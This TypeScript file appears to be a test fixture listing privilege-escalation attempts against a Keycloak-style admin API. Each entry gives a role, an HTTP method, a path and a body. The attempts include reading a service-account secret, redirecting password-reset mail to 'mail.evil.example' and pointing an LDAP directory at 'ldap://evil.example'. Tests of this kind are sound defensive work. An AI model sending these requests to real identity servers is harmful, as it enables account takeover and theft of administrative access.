import { type Attack, type AttackOfRole, boss, rm } from './attack.js';

export const onAuthorization: AttackOfRole[] = [
  { name: 'impersonates an administrator', method: 'POST', path: (ids) => `${boss(ids)}/impersonation` },
];

export const more: Attack[] = [
  {
    by: 'view-clients',
    name: 'reads the settings of an adapter with the secret of a service account that is above',
    method: 'GET',
    path: (ids) => `/clients/${ids.clients.robot}/installation/providers/keycloak-oidc-keycloak-json`,
  },
  {
    by: 'manage-clients',
    name: 'has mappers write the tokens of an administration tool',
    method: 'POST',
    path: (ids) => `/clients/${ids.clients['admin-cli']}/protocol-mappers/models`,
    body: () => ({ name: 'm', protocol: 'openid-connect', protocolMapper: 'oidc-hardcoded-claim-mapper', config: {} }),
  },
  {
    by: 'manage-realm',
    name: 'has mails with links go to a server of its own',
    method: 'PUT',
    path: () => '',
    body: () => ({ resetPasswordAllowed: true, smtpServer: { host: 'mail.evil.example', from: 'a@evil.example' } }),
  },
  ...['manage-clients', 'manage-authorization'].map(
    (by): Attack => ({
      by,
      name: 'decides who may manage users',
      method: 'POST',
      path: (ids) => `${rm(ids)}/authz/resource-server/policy`,
      body: (ids) => ({ name: 'mine', type: 'user', config: { users: JSON.stringify([ids.users[by]]) } }),
    }),
  ),
  {
    by: 'manage-users',
    name: 'binds an own user to a directory that hands out administration',
    method: 'POST',
    path: () => '/users',
    body: (ids) => ({
      username: 'chief-there',
      federationLink: ids.storage,
      credentials: [{ type: 'password', value: 'mine' }],
    }),
  },
  {
    by: 'manage-users',
    name: 'binds a user who is there to it',
    method: 'PUT',
    path: (ids) => `/users/${ids.users.victim}`,
    body: (ids) => ({ federationLink: ids.storage }),
  },
  {
    by: 'manage-users',
    name: 'binds an administrator to a directory',
    method: 'PUT',
    path: boss,
    body: (ids) => ({ federationLink: ids.storage }),
  },
  {
    by: 'manage-realm',
    name: 'moves a directory that hands out administration',
    method: 'PUT',
    path: (ids) => `/components/${ids.storage}`,
    body: () => ({ config: { connectionUrl: ['ldap://evil.example'] } }),
  },
];
